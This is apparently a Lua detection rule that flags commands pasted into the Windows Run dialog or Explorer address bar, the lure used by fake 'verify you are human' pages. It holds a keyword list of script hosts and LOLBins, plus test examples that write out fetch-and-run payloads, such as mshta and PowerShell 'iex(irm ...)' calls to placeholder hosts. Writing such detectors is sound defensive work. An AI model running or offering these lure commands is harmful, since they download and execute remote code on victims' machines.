-- What was typed, or pasted, into the Run dialog or the address bar of a folder is remembered. A web page that asks its
-- reader to paste a command there leaves this trace, and another by the browser whose dialog of files it was.

local lists = require "kaiseki.common.lists"
local memory = require "kaiseki.detect.memory"
local places = require "kaiseki.detect.places"

local RUNNERS = {
    "powershell", "pwsh", "mshta", "cmd /", "cmd.exe /", "curl", "wscript", "cscript", "rundll32", "regsvr32",
    "bitsadmin", "certutil", "msiexec", "conhost", "ssh ", "iex", "invoke-", "finger", "nslookup", "%comspec%",
    "davwwwroot", "@ssl", "search-ms:", "wt.exe", "forfiles", "pcalua", "ftp ", "wmic", "syncappv",
}

local function is_pasted(data)
    local folded = data:lower()
    if not lists.part_in(folded, RUNNERS) then return false end
    return places.has_url(folded) or #folded > 60 or folded:find "[|@]" ~= nil
        or folded:find "%f[%w]%d+%.%d+%.%d+%.%d+" ~= nil
end

-- Explorer remembers a command when it starts it, a little before or after.
local AT_ONCE = 100000000 -- ten seconds, in ticks

local told = memory.of_case()

local function started_by(pasted)
    local words = pasted.data:lower():gsub([[\1$]], ""):match "^%S+%s+(.*)$"
    for _, child in ipairs(words and pasted.process.children or {}) do
        local near = child.start_time and math.abs(child.start_time - pasted.time) <= AT_ONCE
        if near and (child.command_line or ""):lower():find(words, 1, true) then return child end
    end
    return nil
end

rule {
    id = "execution.run-dialog",
    title = "Command pasted into the Run dialog",
    severity = "high",
    attack = { "T1204.004" },
    description = "The list of commands given in the Run dialog, or of folders in the address bar, gains one that "
        .. "fetches or runs something by a script host.",
    references = { "https://attack.mitre.org/techniques/T1204/004/" },
    false_positives = { "Administrators who run long commands this way." },
    author = "kaiseki",
    match = operation:is "RegSetValue" & result:is "SUCCESS"
        & path:contains { [[\Explorer\RunMRU\]], [[\Explorer\TypedPaths\]] },
    on_event = function(event, case)
        local data = event.registry.data or ""
        if not is_pasted(data) then return end
        local list = told(case)
        list[#list + 1] = { process = event.process, data = data, time = event.time }
        case:finding { process = event.process, key = data, event = event }
    end,
    on_finish = function(case)
        for _, pasted in ipairs(told(case)) do
            local child = started_by(pasted)
            if child and child.first_event then
                case:finding { process = pasted.process, key = pasted.data, event = case:event(child.first_event) }
            end
        end
    end,
    finding = function(finding)
        local event = finding.events[1]
        local typed = event.path and event.path:lower():find([[\typedpaths\]], 1, true)
        for _, each in ipairs(finding.events) do
            typed = typed or (each.path or ""):lower():find([[\typedpaths\]], 1, true)
        end
        return { typed and "run-from-address-bar" or "run-from-dialog", command = (finding.key:gsub([[\1$]], "")) }
    end,
    examples = {
        match = {
            { operation = "RegSetValue", ["process.name"] = "explorer.exe",
              path = [[HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a]],
              ["registry.type"] = "REG_SZ",
              ["registry.data"] = [[mshta https://203.0.113.9/verify.hta # I am human\1]] },
            { operation = "RegSetValue", ["process.name"] = "chrome.exe",
              path = [[HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\TypedPaths\url1]],
              ["registry.type"] = "REG_SZ",
              ["registry.data"] = [[powershell -w 1 -c "iex(irm x.example)"    # C:\company\Umowa.docx]] },
        },
        no_match = {
            { operation = "RegSetValue", ["process.name"] = "explorer.exe",
              path = [[HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\TypedPaths\url1]],
              ["registry.type"] = "REG_SZ", ["registry.data"] = [[C:\Users\x\Documents\A long name of a folder]] },
            { operation = "RegSetValue", ["process.name"] = "explorer.exe",
              path = [[HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a]],
              ["registry.type"] = "REG_SZ", ["registry.data"] = [[cmd\1]] },
        },
    },
}
